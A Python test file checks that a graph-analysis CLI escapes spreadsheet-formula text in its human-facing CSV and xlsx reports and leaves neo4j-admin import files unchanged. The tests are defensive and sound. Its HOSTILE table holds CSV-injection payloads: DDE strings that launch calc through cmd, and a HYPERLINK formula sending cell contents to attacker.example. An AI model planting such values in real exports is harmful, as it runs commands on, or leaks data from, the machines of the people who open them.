"""Spreadsheet safety: ledger text that a spreadsheet would run as a formula stays text in every
CSV and xlsx output meant for people; the neo4j-admin import files keep the data as it is."""
from __future__ import annotations

import csv
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from graph.interface.cli import main
from graph.present.cells import FORMULA_STARTS, csv_cell, is_formula_like

ROOT = Path(__file__).resolve().parents[1]

# One hostile value per dangerous first character (OWASP's list), each a payload seen in the wild.
HOSTILE = {
    "=": "=cmd|' /C calc'!A0",
    "+": "+HYPERLINK(\"http://attacker.example/?x=\"&A1)",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_dangerous_start_is_escaped(start):
    text = HOSTILE[start]
    assert is_formula_like(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["市发改委", "a=b", "'=already quoted", "", "-76", "+3.5", "-1e3", 42, -7, 2.5, None])
def test_ordinary_cells_and_numbers_are_left_alone(value):
    assert not is_formula_like(value) and csv_cell(value) == value


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory) -> Path:
    """The bundled data with chain names replaced by hostile text (six chains, six payloads)."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(ROOT / "data", data)
    path = data / "chains" / "chains.csv"
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    name = rows[0].index("name")
    for row, payload in zip(rows[1:], HOSTILE.values()):
        row[name] = payload
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return data


def cells_of_csv(text: str) -> list[str]:
    return [c for row in csv.reader(text.splitlines(keepends=True)) for c in row]


def assert_no_live_cell(cells, must_contain: int) -> None:
    cells = list(cells)
    assert not [c for c in cells if is_formula_like(c)]
    assert sum(any(c == "'" + p for p in HOSTILE.values()) for c in cells) >= must_contain


def test_analyze_csv_escapes_formula_cells(hostile_data, tmp_path, capsys):
    out = tmp_path / "report"
    assert main(["analyze", "--data", str(hostile_data), "--as-of", "2024-07-15", "--format", "csv",
                 "--out", str(out)]) == 0
    cells = [c for f in sorted(out.glob("*.csv")) for c in cells_of_csv(f.read_text(encoding="utf-8"))]
    assert_no_live_cell(cells, must_contain=2)


@pytest.mark.parametrize("argv", [["query", "chain_leaders", "--param", "chain=new-materials"],
                                  ["ask", "巨化集团的情况"]])
def test_query_and_ask_csv_escape_formula_cells(hostile_data, capsys, argv):
    assert main([*argv, "--data", str(hostile_data), "--backend", "embedded", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert_no_live_cell(cells_of_csv(out.split("\n", 1)[1] if argv[0] == "ask" else out), must_contain=1)


def test_analyze_xlsx_writes_formula_like_text_as_text(hostile_data, tmp_path, capsys):
    out = tmp_path / "report.xlsx"
    assert main(["analyze", "--data", str(hostile_data), "--as-of", "2024-07-15", "--format", "xlsx",
                 "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as z:  # no formula element in any sheet
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
    wb = load_workbook(out)
    hostile = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value in HOSTILE.values()]
    assert len(hostile) >= 2
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_export_csv_for_neo4j_admin_keeps_the_data_as_it_is(hostile_data, tmp_path, capsys):
    """The import files are machine input: escaping would change the names neo4j-admin loads."""
    assert main(["export", "--data", str(hostile_data), "--format", "csv", "--out", str(tmp_path)]) == 0
    cells = cells_of_csv((tmp_path / "nodes_Chain.csv").read_text(encoding="utf-8"))
    assert HOSTILE["="] in cells and "'" + HOSTILE["="] not in cells
